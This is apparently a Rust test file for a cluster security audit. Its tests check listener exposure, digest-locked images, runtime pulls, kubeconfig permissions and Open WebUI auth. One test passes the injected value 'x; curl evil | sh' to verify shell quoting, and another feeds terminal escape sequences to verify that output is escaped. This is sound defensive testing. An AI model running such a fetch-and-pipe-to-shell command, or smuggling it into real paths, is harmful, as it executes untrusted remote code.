//! Each rule passing and failing on a hand-made observation.

use super::*;
use crate::images::{Entry, Lock};

const D1: &str = "sha256:1111111111111111111111111111111111111111111111111111111111111111";
const D2: &str = "sha256:2222222222222222222222222222222222222222222222222222222222222222";

fn locks() -> Locks {
    let mut user = Lock::default();
    user.images.insert("intel/intel-gpu-plugin:0.34.0".into(), Entry { digest: D1.into(), platforms: vec![] });
    Locks { user: Some(user), shipped: Lock::default() }
}

fn clean() -> AuditObserved {
    AuditObserved {
        schema: OBSERVED_SCHEMA.into(),
        cluster: "lab".into(),
        listeners: vec![Listener {
            container: "k3d-lab-serverlb".into(),
            host_ip: "0.0.0.0".into(),
            host_port: "6550".into(),
            container_port: API_PORT.into(),
        }],
        images: vec![RunningImage {
            container: "kube-system/p/plugin".into(),
            image: "docker.io/intel/intel-gpu-plugin:0.34.0".into(),
            image_id: format!("docker.io/intel/intel-gpu-plugin@{D1}"),
        }],
        pulls: vec![],
        kubeconfigs: vec![KubeconfigFile { path: "/home/u/.kube/config".into(), mode: 0o600 }],
        open_webui: vec![WebUi { container: "ai/ui/ui".into(), webui_auth: None }],
    }
}

fn failed(o: &AuditObserved) -> Vec<&'static str> {
    audit(o, &locks()).findings.iter().map(|f| f.rule).collect()
}

#[test]
fn the_default_layout_passes_every_rule() {
    let a = audit(&clean(), &locks());
    assert!(a.passed, "{:?}", a.findings);
    assert_eq!(a.rules.len(), RULES.len());
}

#[test]
fn a_port_published_off_loopback_fails_but_the_api_server_and_loopback_pass() {
    let mut o = clean();
    o.listeners.push(Listener {
        container: "k3d-lab-server-0".into(),
        host_ip: "127.0.0.1".into(),
        host_port: "8000".into(),
        container_port: "8000/tcp".into(),
    });
    assert!(failed(&o).is_empty());
    for ip in ["::1", "[::1]", "127.0.0.2"] {
        let mut o = clean();
        o.listeners.push(Listener {
            container: "k3d-lab-serverlb".into(),
            host_ip: ip.into(),
            host_port: "8080".into(),
            container_port: "80/tcp".into(),
        });
        assert!(failed(&o).is_empty(), "{ip}");
    }
    for ip in ["0.0.0.0", "::", "", "192.168.1.5", "10.0.0.2"] {
        let mut o = clean();
        o.listeners.push(Listener {
            container: "k3d-lab-serverlb".into(),
            host_ip: ip.into(),
            host_port: "8080".into(),
            container_port: "80/tcp".into(),
        });
        assert_eq!(failed(&o), ["listener"], "{ip:?}");
    }
}

#[test]
fn an_image_the_lock_does_not_pin_or_pins_otherwise_or_without_a_digest_fails() {
    let cases = [
        ("docker.io/intel/intel-gpu-plugin:0.34.0", format!("docker.io/intel/intel-gpu-plugin@{D2}")),
        ("docker.io/intel/other:1.0", format!("docker.io/intel/other@{D1}")),
        ("docker.io/intel/intel-gpu-plugin:0.34.0", format!("sha256:{}", "3".repeat(64))),
    ];
    for (image, id) in cases {
        let mut o = clean();
        o.images[0].image = image.into();
        o.images[0].image_id = id.clone();
        assert_eq!(failed(&o), ["image-digest"], "{image} {id}");
    }
    // A reference that pins the digest it runs needs no lock.
    let mut o = clean();
    o.images[0].image = format!("docker.io/intel/other:1.0@{D2}");
    o.images[0].image_id = format!("docker.io/intel/other@{D2}");
    assert!(failed(&o).is_empty());
}

/// The events `audit` keeps as pulls: a correlated one too, never "already present".
#[test]
fn a_combined_pull_event_is_still_a_pull() {
    let image = "Successfully pulled image \"docker.io/intel/other:1.0\" in 1s";
    assert_eq!(super::pulled(image), Some(image));
    assert_eq!(super::pulled(&format!("(combined from similar events): {image}")), Some(image));
    assert_eq!(super::pulled("Container image \"x:1\" already present on machine"), None);
    assert_eq!(super::pulled("(combined from similar events): Container image \"x:1\" already present"), None);
}

#[test]
fn a_runtime_pull_of_an_unpinned_image_fails() {
    for message in [
        "Successfully pulled image \"x\"".to_string(),
        "Successfully pulled image \"docker.io/intel/other:1.0\" in 1.2s (1.2s including waiting)".into(),
        // The lock pins 0.34.0, not this tag.
        "Successfully pulled image \"intel/intel-gpu-plugin:0.35.0\" in 1s".into(),
        "Successfully pulled image docker.io/intel/intel-gpu-plugin:0.34.0".into(),
        format!("Successfully pulled image \"docker.io/intel/x@sha256:{}\"", "Z".repeat(64)),
        // client-go's correlator's form of the 11th and later similar events.
        "(combined from similar events): Successfully pulled image \"docker.io/intel/other:1.0\" in 1s".into(),
    ] {
        let mut o = clean();
        o.pulls.push(Pull { object: "kube-system/coredns-1".into(), message: message.clone() });
        assert_eq!(failed(&o), ["runtime-pull"], "{message}");
    }
}

/// Issue 43: a cluster `apply` just made, with a fresh lock, passes its own audit. Its nodes
/// pulled every image it deploys (by digest, as rendered from the lock) and k3s pulled its own
/// by tag (which `images lock` pins): all within the hour the events are kept.
#[test]
fn a_pull_the_lock_or_the_reference_pins_passes() {
    for message in [
        format!(
            "Successfully pulled image \"docker.io/intel/intel-gpu-plugin:0.34.0@{D1}\" in 2.1s (2.1s including waiting). Image size: 1 bytes."
        ),
        "Successfully pulled image \"intel/intel-gpu-plugin:0.34.0\" in 800ms (800ms including waiting)".into(),
        "Successfully pulled image \"docker.io/intel/intel-gpu-plugin:0.34.0\" in 1s".into(),
        format!("Successfully pulled image \"example.org/own:2@{D2}\" in 1s"),
        format!("Successfully pulled image \"example.org/own@{D2}\" in 1s"),
    ] {
        let mut o = clean();
        o.pulls.push(Pull { object: "kube-system/p".into(), message: message.clone() });
        assert!(failed(&o).is_empty(), "{message}");
    }
}

#[test]
fn a_kubeconfig_readable_by_group_or_others_fails() {
    for mode in [0o640, 0o604, 0o644] {
        let mut o = clean();
        o.kubeconfigs[0].mode = mode;
        let a = audit(&o, &locks());
        assert_eq!(a.findings.iter().map(|f| f.rule).collect::<Vec<_>>(), ["kubeconfig-mode"], "{mode:o}");
        assert!(a.findings[0].fix.contains("chmod 600"));
    }
}

#[test]
fn open_webui_with_auth_off_fails_and_auth_on_passes() {
    for (value, fails) in [("False", true), ("false", true), ("0", true), ("True", false)] {
        let mut o = clean();
        o.open_webui[0].webui_auth = Some(value.into());
        assert_eq!(failed(&o).len(), usize::from(fails), "{value}");
    }
}

#[test]
fn the_text_escapes_what_the_cluster_named() {
    let mut o = clean();
    o.pulls.push(Pull { object: "ns/p\u{1b}[2J".into(), message: "Successfully pulled \u{7}".into() });
    let text = render(&audit(&o, &locks()));
    assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text:?}");
    assert!(text.contains("audit failed"));
}

#[test]
fn a_fix_names_a_hostile_kubeconfig_path_as_one_shell_word() {
    assert_eq!(crate::shell::word("/home/u/.kube/config"), "/home/u/.kube/config");
    assert_eq!(crate::shell::word("x; curl evil | sh"), "'x; curl evil | sh'");
    assert_eq!(crate::shell::word("it's"), "'it'\\''s'");
}
